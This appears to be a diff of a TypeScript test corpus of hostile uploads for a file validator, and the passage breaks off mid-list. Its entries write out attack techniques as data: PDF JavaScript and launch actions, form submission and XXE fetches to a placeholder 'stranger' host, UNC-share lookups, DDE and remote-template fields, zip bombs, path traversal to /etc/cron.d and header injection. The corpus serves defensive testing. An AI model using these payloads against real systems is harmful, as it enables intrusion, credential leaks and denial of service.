@@ -6,48 +6,53 @@ import {
   documentXml,
   docx,
   docxEntries,
+  docxWithTemplate,
+  macroMainType,
+  macroRelation,
   odt,
   odtContent,
   paragraph,
   relationsXml,
-  settingsParts,
 } from "./docx.ts";
 import {
   docxCv,
   gifPhoto,
   type HostileFile,
+  harmless,
   html,
+  inCategory,
   jpegPhoto,
+  laughs,
   mark,
   movVideo,
   mp4Video,
   odtCv,
+  openScript,
   pdfCv,
   pdfScript,
   php,
   pngPhoto,
+  refused,
   script,
+  scriptAction,
+  smallArchive,
   stranger,
   webmVideo,
   webpPhoto,
 } from "./hostile.ts";
-import { box, film, fullBox, track, webm } from "./media.ts";
-import { attachment, cvPdf, lockedPdf, openStream, pageContent, someLines, stream } from "./pdf.ts";
+import { box, fileType, film, fullBox, track, webm } from "./media.ts";
+import { attachment, cvPdf, lockedPdf, openStream, pageContent, pageLink, someLines, stream } from "./pdf.ts";
 import { hiddenStates, manyOperators, manyStates, nestedForms, nestedPatterns, selfForm } from "./pdf-work.ts";
 import { camera, exifSegment, gif, heif, jpeg, jpegSegment, png, pngChunk, tiff, webp } from "./pictures.ts";
 import { linuxProgram, oldWordDocument, richText, windowsProgram } from "./programs.ts";
 import { zerosEntry, zip } from "./zip.ts";
 
-const refused = "refused";
-const harmless = "harmless";
-const smallArchive = () => zip([{ name: "index.html", content: html }]);
 const svgHead = '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="64" height="64">';
 
-const polyglots: HostileFile[] = [
+const polyglots = inCategory("polyglot", [
   {
     ...pdfCv,
     name: "PDF behind a page of HTML",
-    category: "polyglot",
     bytes: () => join(html.replace("</html>", "<!--\n"), cvPdf(), "-->"),
     expected: refused,
     why: "Readers find the PDF within the first 1024 bytes, browsers that guess find the page before it.",
@@ -55,7 +60,6 @@ const polyglots: HostileFile[] = [
   {
     ...pdfCv,
     name: "PDF with HTML in its second line",
-    category: "polyglot",
     bytes: () => cvPdf({ version: `1.4\n%${html}` }),
     expected: harmless,
     why: "A comment of a PDF: it is a page only where it is served as one or without a type.",
@@ -63,7 +67,6 @@ const polyglots: HostileFile[] = [
   {
     ...gifPhoto,
     name: "GIF that is a program in JavaScript",
-    category: "polyglot",
     bytes: () => join(gif({ width: 0x2a2f, height: 4, frame: { width: 8, height: 8 } }), `*/=1;${script}`),
     expected: harmless,
     why: "GIF89a/*...*/=1 assigns a variable, then runs; encoded anew nothing of it is left.",
@@ -72,7 +75,6 @@ const polyglots: HostileFile[] = [
   {
     ...jpegPhoto,
     name: "JPEG with a ZIP behind it",
-    category: "polyglot",
     bytes: () => join(jpeg(), zip([{ name: "index.html", content: html, packing: 0 }])),
     expected: harmless,
     why: "A picture from its beginning, an archive from its end; encoded anew it is a picture alone.",
@@ -81,7 +83,6 @@ const polyglots: HostileFile[] = [
   {
     ...pdfCv,
     name: "PDF with a ZIP behind it",
-    category: "polyglot",
     bytes: () => join(cvPdf(), smallArchive()),
     expected: refused,
     why: "A PDF is kept as it is: the archive would go out with it under our name.",
@@ -89,7 +90,6 @@ const polyglots: HostileFile[] = [
   {
     ...pngPhoto,
     name: "PNG with PHP behind its end",
-    category: "polyglot",
     bytes: () => join(png(), php),
     expected: harmless,
     why: "Runs where a server believes a name; encoded anew it ends with the picture.",
@@ -98,20 +98,18 @@ const polyglots: HostileFile[] = [
   {
     ...jpegPhoto,
     name: "JPEG with a page of HTML behind it, as a logo",
-    category: "polyglot",
     kind: "logo",
     bytes: () => join(jpeg(), html),
     expected: harmless,
     why: "A logo is shown to everybody; encoded anew it holds no page.",
     absent: ["<script", mark],
   },
-];
+]);
 
-const metadata: HostileFile[] = [
+const metadata = inCategory("picture metadata", [
   {
     ...jpegPhoto,
     name: "JPEG with EXIF position, comment and HTML behind it",
-    category: "picture metadata",
     bytes: () => join(jpeg({ segments: join(exifSegment(), jpegSegment(0xfe, html)) }), html),
     expected: harmless,
     why: "The position of a home and a page ride along; neither may be served.",
@@ -120,7 +118,6 @@ const metadata: HostileFile[] = [
   {
     ...pngPhoto,
     name: "PNG with text and XMP",
-    category: "picture metadata",
     bytes: () =>
       png({
         before: join(
@@ -135,28 +132,25 @@ const metadata: HostileFile[] = [
   {
     ...jpegPhoto,
     name: "photographed CV with its position",
-    category: "picture metadata",
     kind: "cv",
     bytes: () => jpeg({ width: 240, height: 320, segments: exifSegment() }),
     expected: harmless,
     why: "Photographs become a PDF, which must not carry where they were taken.",
     absent: ["Exif\0\0", camera],
   },
-];
+]);
 
-const scripts: HostileFile[] = [
+const scripts = inCategory("pdf script", [
   {
     ...pdfCv,
     name: "PDF script when it is opened",
-    category: "pdf script",
-    bytes: () => cvPdf({ catalogue: `/OpenAction<</S/JavaScript/JS(${pdfScript})>>` }),
+    bytes: () => cvPdf({ catalogue: `/OpenAction${scriptAction}` }),
     expected: refused,
     why: "Runs by itself in Acrobat and in browsers' readers.",
   },
   {
     ...pdfCv,
     name: "PDF script when its page is shown",
-    category: "pdf script",
     kind: "offerFile",
     bytes: () => cvPdf({ page: `/AA<</O<</Type/Action/S /JavaScript /JS (${pdfScript})>>>>` }),
     expected: refused,
@@ -165,14 +159,13 @@ const scripts: HostileFile[] = [
   {
     ...pdfCv,
     name: "PDF script among its names, packed",
-    category: "pdf script",
     bytes: () =>
       cvPdf({
         catalogue: "/Names 10 0 R",
         objects: {
           10: "<</JavaScript 11 0 R>>",
           11: "<</Names[(start)12 0 R]>>",
-          12: `<</S/JavaScript/JS(${pdfScript})>>`,
+          12: scriptAction,
         },
         pack: {},
       }),
@@ -182,7 +175,6 @@ const scripts: HostileFile[] = [
   {
     ...pdfCv,
     name: "PDF script with escaped names",
-    category: "pdf script",
     bytes: () => cvPdf({ catalogue: `/Open#41ction<</S/J#61vaScript/#4A#53(${pdfScript})>>` }),
     expected: refused,
     why: "#61 is an a: the names are the same to every reader.",
@@ -190,11 +182,10 @@ const scripts: HostileFile[] = [
   {
     ...pdfCv,
     name: "PDF script in a compressed stream",
-    category: "pdf script",
     bytes: () =>
       cvPdf({
         catalogue: "/OpenAction 10 0 R",
-        objects: { 10: "<</Type/Action/S/JavaScript/JS 11 0 R>>", 11: stream(`app.alert("${mark}")`) },
+        objects: { 10: "<</Type/Action/S/JavaScript/JS 11 0 R>>", 11: stream(openScript) },
       }),
     expected: refused,
     why: "The script may be a stream instead of a text.",
@@ -202,12 +193,11 @@ const scripts: HostileFile[] = [
   {
     ...pdfCv,
     name: "PDF script behind a link",
-    category: "pdf script",
     bytes: () =>
       cvPdf({
         page: "/Annots[10 0 R]",
         objects: {
-          10: `<</Type/Annot/Subtype/Link/Rect[0 0 595 842]/A<</S/JavaScript/JS(${pdfScript})>>>>`,
+          10: pageLink(scriptAction),
         },
       }),
     expected: refused,
@@ -216,25 +206,23 @@ const scripts: HostileFile[] = [
   {
     ...pdfCv,
     name: "PDF script on a form's field",
-    category: "pdf script",
     bytes: () =>
       cvPdf({
         catalogue: "/AcroForm<</Fields[10 0 R]>>",
         page: "/Annots[10 0 R]",
         objects: {
-          10: `<</Type/Annot/Subtype/Widget/FT/Tx/T(a)/Rect[72 600 200 620]/AA<</F<</S/JavaScript/JS(${pdfScript})>>>>>>`,
+          10: `<</Type/Annot/Subtype/Widget/FT/Tx/T(a)/Rect[72 600 200 620]/AA<</F${scriptAction}>>>>`,
         },
       }),
     expected: refused,
     why: "Forms may calculate with scripts; a CV has nothing to calculate.",
   },
-];
+]);
 
-const actions: HostileFile[] = [
+const actions = inCategory("pdf action", [
   {
     ...pdfCv,
     name: "PDF that launches a program",
-    category: "pdf action",
     bytes: () => cvPdf({ catalogue: "/OpenAction<</S/Launch/F(/C/Windows/System32/calc.exe)>>" }),
     expected: refused,
     why: "Starts a program of the reader's machine.",
@@ -242,7 +230,6 @@ const actions: HostileFile[] = [
   {
     ...pdfCv,
     name: "PDF that sends its form to a stranger",
-    category: "pdf action",
     bytes: () =>
       cvPdf({
         catalogue: `/OpenAction<</S/SubmitForm/F<</FS/URL/F(http://${stranger}/form)>>/Flags 4>>`,
@@ -253,7 +240,6 @@ const actions: HostileFile[] = [
   {
     ...pdfCv,
     name: "PDF that fills itself from a stranger's data",
-    category: "pdf action",
     bytes: () => cvPdf({ page: `/AA<</O<</S/ImportData/F(\\\\\\\\${stranger}\\\\share\\\\a.fdf)>>>>` }),
     expected: refused,
     why: "Reads a file of the machine or of a share when its page is shown.",
@@ -261,7 +247,6 @@ const actions: HostileFile[] = [
   {
     ...pdfCv,
     name: "PDF that goes to a file on a share",
-    category: "pdf action",
     bytes: () => cvPdf({ page: `/AA<</O<</S/GoToR/D[0/Fit]/F(\\\\\\\\${stranger}\\\\share\\\\a.pdf)>>>>` }),
     expected: refused,
     why: "Windows offers the reader's password to the share before asking.",
@@ -269,7 +254,6 @@ const actions: HostileFile[] = [
   {
     ...pdfCv,
     name: "PDF with rich media",
-    category: "pdf action",
     bytes: () =>
       cvPdf({
         page: "/Annots[10 0 R]",
@@ -285,7 +269,6 @@ const actions: HostileFile[] = [
   {
     ...pdfCv,
     name: "PDF with an XFA form",
-    category: "pdf action",
     bytes: () =>
       cvPdf({
         catalogue: "/AcroForm<</Fields[]/XFA 10 0 R>>",
@@ -298,13 +281,12 @@ const actions: HostileFile[] = [
     expected: refused,
     why: "A second document in XML with scripts of its own, which most checks do not read.",
   },
-];
+]);
 
-const attachments: HostileFile[] = [
+const attachments = inCategory("pdf attachment", [
   {
     ...pdfCv,
     name: "PDF with a program attached",
-    category: "pdf attachment",
     bytes: () => cvPdf(attachment("setup.exe", windowsProgram(), "application/x-msdownload")),
     expected: refused,
     why: "The reader offers the program with our name around it.",
@@ -312,26 +294,23 @@ const attachments: HostileFile[] = [
   {
     ...pdfCv,
     name: "PDF with another PDF attached",
-    category: "pdf attachment",
     bytes: () => cvPdf({ ...attachment("lettre.pdf", cvPdf(), "application/pdf"), pack: {} }),
     expected: refused,
     why: "Only XML may be attached; what lies inside another PDF is not looked at.",
   },
-];
+]);
 
-const structures: HostileFile[] = [
+const structures = inCategory("pdf structure", [
   {
     ...pdfCv,
     name: "PDF under a password",
-    category: "pdf structure",
-    bytes: () => lockedPdf("vivier", `app.alert("${mark}")`),
+    bytes: () => lockedPdf("vivier", openScript),
     expected: refused,
     why: "Nobody can look into it, and it holds a script.",
   },
   {
     ...pdfCv,
     name: "PDF whose pages are their own children",
-    category: "pdf structure",
     bytes: () => cvPdf({ objects: { 2: "<</Type/Pages/Parent 2 0 R/Kids[2 0 R]/Count 3>>" } }),
     expected: refused,
     why: "Whoever walks through the pages never comes out; there is no page to show.",
@@ -339,7 +318,6 @@ const structures: HostileFile[] = [
   {
     ...pdfCv,
     name: "PDF that counts two billion pages",
-    category: "pdf structure",
     bytes: () => cvPdf({ objects: { 2: "<</Type/Pages/Kids[3 0 R]/Count 2147483647>>" } }),
     expected: harmless,
     why: "One page is there; the viewer must not make room for all that are said.",
@@ -347,7 +325,6 @@ const structures: HostileFile[] = [
   {
     ...pdfCv,
     name: "PDF of 100,000 objects",
-    category: "pdf structure",
     bytes: () =>
       cvPdf({ objects: Object.fromEntries(Array.from({ length: 100_000 }, (_, i) => [10 + i, "<</A 1>>"])) }),
     expected: harmless,
@@ -364,12 +341,11 @@ const structures: HostileFile[] = [
     ] as const
   ).map(([what, bytes, why]) => ({
     ...pdfCv,
-    ...({ name: `PDF with ${what}`, category: "pdf structure" as const, bytes, expected: refused, why } as const),
+    ...({ name: `PDF with ${what}`, bytes, expected: refused, why } as const),
   })),
   {
     ...pdfCv,
     name: "PDF whose page unpacks to 1 GB",
-    category: "pdf structure",
     bytes: () => cvPdf({ objects: { 4: { dictionary: "/Filter/FlateDecode", bytes: zlibZeros(1024 * megabyte) } } }),
     expected: refused,
     why: "One megabyte in the file, a thousand in the memory of whoever opens it.",
@@ -377,7 +353,6 @@ const structures: HostileFile[] = [
   {
     ...pdfCv,
     name: "PDF packed twice that unpacks to 1 GB",
-    category: "pdf structure",
     bytes: () => {
       const bytes = deflateSync(zlibZeros(1024 * megabyte), { level: 9 });
       return cvPdf({ objects: { 4: { dictionary: "/Filter[/FlateDecode/FlateDecode]", bytes } } });
@@ -388,7 +363,6 @@ const structures: HostileFile[] = [
   {
     ...pdfCv,
     name: "PDF cut in the middle",
-    category: "pdf structure",
     kind: "kbis",
     fileName: "kbis.pdf",
     bytes: () => {
@@ -399,13 +373,12 @@ const structures: HostileFile[] = [
     expected: refused,
     why: "The table and the catalogue are gone with the second half: no program can show it.",
   },
-];
+]);
 
-const sizes: HostileFile[] = [
+const sizes = inCategory("picture size", [
   {
     ...pngPhoto,
     name: "PNG that says 50,000 by 50,000",
-    category: "picture size",
     bytes: () => png({ width: 50_000, height: 50_000, depth: 8, colour: 6, packed: zlibZeros(64) }),
     expected: refused,
     why: "Ten gigabytes of pixels from a hundred bytes.",
@@ -413,7 +386,6 @@ const sizes: HostileFile[] = [
   {
     ...jpegPhoto,
     name: "JPEG that says 65,500 by 65,500",
-    category: "picture size",
     kind: "offerImage",
     bytes: () => jpeg({ said: { width: 65_500, height: 65_500 } }),
     expected: refused,
@@ -422,7 +394,6 @@ const sizes: HostileFile[] = [
   {
     ...gifPhoto,
     name: "GIF that says 50,000 by 50,000",
-    category: "picture size",
     bytes: () => gif({ width: 50_000, height: 50_000, indices: 1 }),
     expected: refused,
     why: "Two and a half billion indices from a hundred bytes.",
@@ -430,7 +401,6 @@ const sizes: HostileFile[] = [
   {
     ...webpPhoto,
     name: "WebP of one colour, 16,383 by 16,383",
-    category: "picture size",
     bytes: () => webp(16_383, 16_383),
     expected: refused,
     why: "A whole and true picture in 34 bytes that takes a gigabyte.",
@@ -438,7 +408,6 @@ const sizes: HostileFile[] = [
   {
     ...pngPhoto,
     name: "PNG of 20,000 by 20,000 zeros",
-    category: "picture size",
     kind: "logo",
     bytes: () => png({ width: 20_000, height: 20_000, packed: zlibZeros(20_000 * 20_001) }),
     expected: refused,
@@ -447,7 +416,6 @@ const sizes: HostileFile[] = [
   {
     ...gifPhoto,
     name: "GIF of 5,000 frames",
-    category: "picture size",
     bytes: () => gif({ width: 500, height: 500, frames: 5_000 }),
     expected: harmless,
     why: "Each frame is small, all together are a billion pixels; the first one is enough.",
@@ -457,7 +425,6 @@ const sizes: HostileFile[] = [
     declaredType: "image/tiff",
     kind: "image",
     name: "TIFF of one tile of 2 GB",
-    category: "picture size",
     bytes: () => tiff(50_000, 50_000, zlibZeros(4096), { width: 46_336, height: 46_336 }),
     expected: refused,
     why: "Room is made for a whole tile before its content is read.",
@@ -467,7 +434,6 @@ const sizes: HostileFile[] = [
     declaredType: "image/heic",
     kind: "image",
     name: "HEIC of four billion by four billion",
-    category: "picture size",
     bytes: () => heif("heic", 0xffffffff, 0xffffffff),
     expected: refused,
     why: "The product of its sides does not fit into 64 bits.",
@@ -475,21 +441,19 @@ const sizes: HostileFile[] = [
   {
     ...jpegPhoto,
     name: "photographed CV of 60,000 by 60,000",
-    category: "picture size",
     kind: "cv",
     bytes: () => jpeg({ said: { width: 60_000, height: 60_000 }, frame: 0xc2, bare: true }),
     expected: refused,
     why: "The photographs that become a PDF have the limits of pictures.",
   },
-];
+]);
 
-const svgs: HostileFile[] = [
+const svgs = inCategory("svg", [
   {
     fileName: "logo.svg",
     declaredType: "image/svg+xml",
     kind: "logo",
     name: "SVG with a script as a logo",
-    category: "svg",
     bytes: () => utf8(`${svgHead}<script>${script}</script><rect width="64" height="64"/></svg>`),
     expected: refused,
     why: "An SVG is a document that runs in the origin that serves it.",
@@ -497,23 +461,20 @@ const svgs: HostileFile[] = [
   {
     ...pngPhoto,
     name: "SVG of a billion laughs named PNG",
-    category: "svg",
     bytes: () => {
-      const levels = Array.from({ length: 9 }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`);
       return utf8(
-        `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY l0 "laugh">${levels.join("")}]><svg xmlns="http://www.w3.org/2000/svg"><text>&l9;</text></svg>`,
+        `<?xml version="1.0"?><!DOCTYPE svg [${laughs(9, 10)}]><svg xmlns="http://www.w3.org/2000/svg"><text>&l9;</text></svg>`,
       );
     },
     expected: refused,
     why: "Entities of entities: five gigabytes of text from a kilobyte.",
   },
-];
+]);
 
-const archives: HostileFile[] = [
+const archives = inCategory("archive", [
   {
     ...docxCv,
     name: "DOCX with a part of 1 GB",
-    category: "archive",
     bytes: () => docx({ parts: [zerosEntry("word/media/image1.png", 1024 * megabyte)] }),
     expected: refused,
     why: "An honest directory: the sum of what it says is far too much.",
@@ -521,7 +482,6 @@ const archives: HostileFile[] = [
   {
     ...docxCv,
     name: "DOCX with a ZIP in a ZIP of 1 GB",
-    category: "archive",
     bytes: () => {
       const inner = zip([zerosEntry("a", 1024 * megabyte)]);
       return docx({ parts: [{ name: "word/media/image1.zip", content: zip([{ name: "b.zip", content: inner }]) }] });
@@ -532,7 +492,6 @@ const archives: HostileFile[] = [
   {
     ...docxCv,
     name: "DOCX of 30,000 parts",
-    category: "archive",
     bytes: () => {
       const parts = Array.from({ length: 30_000 }, (_, i) => ({ name: `word/media/${i}`, packing: 0 }));
       return docx({ parts });
@@ -543,7 +502,6 @@ const archives: HostileFile[] = [
   {
     ...docxCv,
     name: "DOCX whose parts lie on one another",
-    category: "archive",
     bytes: () => {
       const entries = docxEntries({ parts: [zerosEntry("word/media/image0.png", 20 * megabyte)] });
       const last = entries.length - 1;
@@ -560,7 +518,6 @@ const archives: HostileFile[] = [
   {
     ...docxCv,
     name: "DOCX that says 500 bytes and unpacks to 500 MB",
-    category: "archive",
     bytes: () => docx({ parts: [zerosEntry("word/media/image1.png", 500 * megabyte, { size: 500 })] }),
     expected: refused,
     why: "What the directory says is a lie that shows only when it is unpacked.",
@@ -568,7 +525,6 @@ const archives: HostileFile[] = [
   {
     ...docxCv,
     name: "DOCX with the sizes of a huge archive",
-    category: "archive",
     bytes: () => {
       const extra = join(little.u16(1), little.u16(16), little.u64(2 ** 60), little.u64(2 ** 60));
       const huge = { size: 0xffffffff, packedSize: 0xffffffff, extra };
@@ -580,7 +536,6 @@ const archives: HostileFile[] = [
   {
     ...docxCv,
     name: "DOCX with a part outside of itself",
-    category: "archive",
     bytes: () => docx({ parts: [{ name: "../../../../etc/cron.d/vivier", content: mark }] }),
     expected: refused,
     why: "Whoever unpacks it into a folder writes outside of the folder.",
@@ -588,7 +543,6 @@ const archives: HostileFile[] = [
   {
     ...docxCv,
     name: "DOCX under a password",
-    category: "archive",
     bytes: () =>
       docx({
         parts: [{ name: "word/document.xml", packed: new Uint8Array(200).fill(0xa7), size: 400, flags: 1, crc: 1 }],
@@ -599,7 +553,6 @@ const archives: HostileFile[] = [
   {
     ...docxCv,
     name: "DOCX with a symbolic link",
-    category: "archive",
     bytes: () => docx({ parts: [{ name: "word/media/image1.png", content: "/etc/passwd", mode: 0o120777 }] }),
     expected: refused,
     why: "Unpacked it points to a file of the machine, which is then read as a picture.",
@@ -607,21 +560,18 @@ const archives: HostileFile[] = [
   {
     ...docxCv,
     name: "DOCX with two lists of its types",
-    category: "archive",
     bytes: () => {
-      const main = "application/vnd.ms-word.document.macroEnabled.main+xml";
-      return zip([...docxEntries(), { name: "[Content_Types].xml", content: contentTypesXml(main) }]);
+      return zip([...docxEntries(), { name: "[Content_Types].xml", content: contentTypesXml(macroMainType) }]);
     },
     expected: refused,
     why: "A check reads the first, Word reads the second, which allows macros.",
   },
-];
+]);
 
-const documents: HostileFile[] = [
+const documents = inCategory("document", [
   {
     ...docxCv,
     name: "DOCX with an external entity",
-    category: "document",
     bytes: () =>
       docx({
         doctype: '<!DOCTYPE w:document [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
@@ -633,7 +583,6 @@ const documents: HostileFile[] = [
   {
     ...odtCv,
     name: "ODT with an external entity",
-    category: "document",
     bytes: () =>
       odt({
         doctype: `<!DOCTYPE office:document-content [<!ENTITY a SYSTEM "http://${stranger}/a">]>`,
@@ -645,14 +594,11 @@ const documents: HostileFile[] = [
   {
     ...docxCv,
     name: "DOCM named DOCX",
-    category: "document",
     bytes: () =>
       docx({
-        mainType: "application/vnd.ms-word.document.macroEnabled.main+xml",
+        mainType: macroMainType,
         types: '<Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/>',
-        relations: [
-          { type: "http://schemas.microsoft.com/office/2006/relationships/vbaProject", target: "vbaProject.bin" },
-        ],
+        relations: [{ type: macroRelation, target: "vbaProject.bin" }],
         parts: [{ name: "word/vbaProject.bin", content: oldWordDocument() }],
       }),
     expected: refused,
@@ -661,13 +607,9 @@ const documents: HostileFile[] = [
   {
     ...docxCv,
     name: "DOCX with a template from a stranger",
-    category: "document",
     bytes: () =>
-      docx(
-        settingsParts(
-          '<w:attachedTemplate r:id="rId1"/>',
-          relationsXml([{ type: "attachedTemplate", target: `http://${stranger}/a.dotm`, external: true }]),
-        ),
+      docxWithTemplate(
+        relationsXml([{ type: "attachedTemplate", target: `http://${stranger}/a.dotm`, external: true }]),
       ),
     expected: refused,
     why: "Word fetches the template, and its macros with it, when the document is opened.",
@@ -675,7 +617,6 @@ const documents: HostileFile[] = [
   {
     ...docxCv,
     name: "DOCX with an OLE object",
-    category: "document",
     bytes: () =>
       docx({
         body: `<w:p><w:r><w:object><o:OLEObject Type="Embed" ProgID="Package" ShapeID="a" DrawAspect="Icon" ObjectID="_1" r:id="rId1"/></w:object></w:r></w:p>`,
@@ -688,7 +629,6 @@ const documents: HostileFile[] = [
   {
     ...docxCv,
     name: "DOCX with a page of HTML for a part",
-    category: "document",
     bytes: () =>
       docx({
         types: '<Override PartName="/word/part.html" ContentType="text/html"/>',
@@ -702,7 +642,6 @@ const documents: HostileFile[] = [
   {
     ...docxCv,
     name: "DOCX with a DDE field",
-    category: "document",
     bytes: () =>
       docx({
         body: `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k echo ${mark}" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`,
@@ -713,7 +652,6 @@ const documents: HostileFile[] = [
   {
     ...docxCv,
     name: "DOCX with a link that is a script",
-    category: "document",
     bytes: () =>
       docx({
         body: `<w:p><w:hyperlink r:id="rId1"><w:r><w:t>Portfolio</w:t></w:r></w:hyperlink></w:p>`,
@@ -726,7 +664,6 @@ const documents: HostileFile[] = [
   {
     ...docxCv,
     name: "DOCX whose text is HTML",
-    category: "document",
     bytes: () => docx({ body: paragraph(html.replaceAll("<", "&lt;").replaceAll(">", "&gt;")) }),
     expected: harmless,
     why: "Text that a careless page would write out as it is.",
@@ -735,7 +672,6 @@ const documents: HostileFile[] = [
   {
     ...odtCv,
     name: "ODT with a macro",
-    category: "document",
     bytes: () =>
       odt({
         scripts: `<office:scripts><office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document" xlink:type="simple"/></office:event-listeners></office:scripts>`,
@@ -753,10 +689,8 @@ const documents: HostileFile[] = [
   {
     ...odtCv,
     name: "ODT of a billion laughs",
-    category: "document",
     bytes: () => {
-      const levels = Array.from({ length: 9 }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`);
-      const doctype = `<!DOCTYPE a [<!ENTITY l0 "laugh">${levels.join("")}]>`;
+      const doctype = `<!DOCTYPE a [${laughs(9, 10)}]>`;
       return odt({ parts: [{ name: "content.xml", content: odtContent("<text:p>&l9;</text:p>", doctype) }] });
     },
     expected: refused,
@@ -765,7 +699,6 @@ const documents: HostileFile[] = [
   {
     ...docxCv,
     name: "DOCX whose text is nested 100,000 deep",
-    category: "document",
     bytes: () =>
       docx({
         parts: [
@@ -780,13 +713,12 @@ const documents: HostileFile[] = [
     expected: harmless,
     why: "A reader that calls itself at each depth falls over; it must fall alone.",
   },
-];
+]);
 
-const wrongTypes: HostileFile[] = [
+const wrongTypes = inCategory("wrong type", [
   {
     ...docxCv,
     name: "old Word document named DOCX",
-    category: "wrong type",
     bytes: oldWordDocument,
     expected: refused,
     why: "Word opens it by its content, with the macros that old documents may hold.",
@@ -794,7 +726,6 @@ const wrongTypes: HostileFile[] = [
   {
     ...docxCv,
     name: "rich text named DOCX",
-    category: "wrong type",
     bytes: () => richText(),
     expected: refused,
     why: "Word opens it by its content, with the object packed into it.",
@@ -802,7 +733,6 @@ const wrongTypes: HostileFile[] = [
   {
     ...pdfCv,
     name: "Windows program named PDF",
-    category: "wrong type",
     bytes: windowsProgram,
     expected: refused,
     why: "A program under the name of a document.",
@@ -810,7 +740,6 @@ const wrongTypes: HostileFile[] = [
   {
     ...jpegPhoto,
     name: "Linux program named JPEG",
-    category: "wrong type",
     bytes: linuxProgram,
     expected: refused,
     why: "A program under the name of a picture.",
@@ -818,7 +747,6 @@ const wrongTypes: HostileFile[] = [
   {
     ...docxCv,
     name: "shell script named DOCX",
-    category: "wrong type",
     bytes: () => latin1(`#!/bin/sh\necho ${mark}\n`),
     expected: refused,
     why: "A program under the name of a document.",
@@ -826,7 +754,6 @@ const wrongTypes: HostileFile[] = [
   {
     ...pdfCv,
     name: "page of HTML named PDF",
-    category: "wrong type",
     bytes: () => utf8(html),
     expected: refused,
     why: "A browser that guesses the type runs it.",
@@ -834,7 +761,6 @@ const wrongTypes: HostileFile[] = [
   {
     ...pdfCv,
     name: "SVG with a script named PDF",
-    category: "wrong type",
     bytes: () => utf8(`${svgHead}<script>${script}</script></svg>`),
     expected: refused,
     why: "A browser that guesses the type runs it.",
@@ -842,7 +768,6 @@ const wrongTypes: HostileFile[] = [
   {
     ...pdfCv,
     name: "page of HTML as a Kbis",
-    category: "wrong type",
     fileName: "kbis.pdf",
     kind: "kbis",
     bytes: () => utf8(`\n\n${html}`),
@@ -852,7 +777,6 @@ const wrongTypes: HostileFile[] = [
   {
     ...jpegPhoto,
     name: "PDF declared as a photo",
-    category: "wrong type",
     bytes: () => cvPdf(),
     expected: refused,
     why: "A good CV is no picture, whatever name and type say.",
@@ -860,7 +784,6 @@ const wrongTypes: HostileFile[] = [
   {
     ...mp4Video,
     name: "picture declared as a video",
-    category: "wrong type",
     bytes: () => png(),
     expected: refused,
     why: "A good picture is no video, whatever name and type say.",
@@ -868,7 +791,6 @@ const wrongTypes: HostileFile[] = [
   {
     ...pdfCv,
     name: "PDF declared as a page of HTML",
-    category: "wrong type",
     declaredType: "text/html",
     bytes: () => cvPdf(),
     expected: harmless,
@@ -877,7 +799,6 @@ const wrongTypes: HostileFile[] = [
   {
     ...pdfCv,
     name: "empty CV",
-    category: "wrong type",
     bytes: () => new Uint8Array(),
     expected: refused,
     why: "There is nothing in it.",
@@ -885,139 +806,106 @@ const wrongTypes: HostileFile[] = [
   {
     ...pngPhoto,
     name: "photo of one byte",
-    category: "wrong type",
     bytes: () => Uint8Array.of(0x89),
     expected: refused,
     why: "Checks that read further than the file ends must not fall.",
   },
-];
+]);
 
-const names: HostileFile[] = [
-  {
-    ...pdfCv,
-    name: "name that climbs out of its folder",
-    category: "name",
-    fileName: "../../../etc/cron.d/cv.pdf",
-    bytes: () => cvPdf(),
-    expected: harmless,
-    why: "Taken as a path it writes outside of its folder.",
-    absent: ["../", "..%2F", "cron.d"],
-  },
-  {
-    ...pdfCv,
-    name: "name that is a Windows path",
-    category: "name",
-    fileName: "C:\\Windows\\System32\\cv.pdf",
-    bytes: () => cvPdf(),
-    expected: harmless,
-    why: "Old browsers send the whole path, which tells who the person is.",
-    absent: ["System32", "%5C"],
-  },
-  {
-    ...pdfCv,
-    name: "name with a NUL",
-    category: "name",
-    fileName: "cv.exe\0.pdf",
-    bytes: () => cvPdf(),
-    expected: harmless,
-    why: "Programs in C read the name up to the NUL.",
-    absent: ["%00", "exe\0"],
-  },
-  {
-    ...pdfCv,
-    name: "name with headers in it",
-    category: "name",
-    fileName: `cv.pdf\r\nSet-Cookie: session=${mark}\r\n\r\n<script>${script}</script>.pdf`,
-    bytes: () => cvPdf(),
-    expected: harmless,
-    why: "Written into a header it ends the header and begins a page.",
-    absent: ["\r\nSet-Cookie: session=", "%0D%0A", "<script"],
-  },
-  {
-    ...jpegPhoto,
-    name: "name that reads backwards, a program's",
-    category: "name",
-    fileName: "photo\u202Egpj.exe",
-    bytes: () => jpeg(),
-    expected: refused,
-    why: "Shown as photoexe.jpg, run as a program.",
-  },
-  {
-    ...pdfCv,
-    name: "name that reads backwards, a document's",
-    category: "name",
-    fileName: "cv_\u202Excod.pdf",
-    bytes: () => cvPdf(),
-    expected: harmless,
-    why: "Shown as another type than it is of.",
-    absent: ["\u202E", "%E2%80%AE"],
-  },
-  {
-    ...pdfCv,
-    name: "name of 5,000 characters",
-    category: "name",
-    fileName: `${"a".repeat(5_000)}.pdf`,
-    bytes: () => cvPdf(),
-    expected: harmless,
-    why: "Longer than any file system and many a header take.",
-    absent: ["a".repeat(300)],
-  },
-  {
-    ...pdfCv,
-    name: "name of dots alone",
-    category: "name",
-    fileName: "....",
-    bytes: () => cvPdf(),
-    expected: harmless,
-    why: "Nothing is left of it, or the folder above.",
-    absent: ['filename=".', "UTF-8''."],
-  },
-  {
-    ...pdfCv,
-    name: "name that Windows keeps for a device",
-    category: "name",
-    fileName: "CON.pdf",
-    bytes: () => cvPdf(),
-    expected: harmless,
-    why: "Windows can neither write nor delete a file of this name.",
-    absent: ['filename="con.pdf"', "UTF-8''CON.pdf"],
-  },
-  {
-    ...pdfCv,
-    name: "name with half a character",
-    category: "name",
-    fileName: "cv\uD800.pdf",
-    bytes: () => cvPdf(),
-    expected: harmless,
-    why: "Encoding it for a header or for the database throws.",
-    absent: ["%ED%A0%80"],
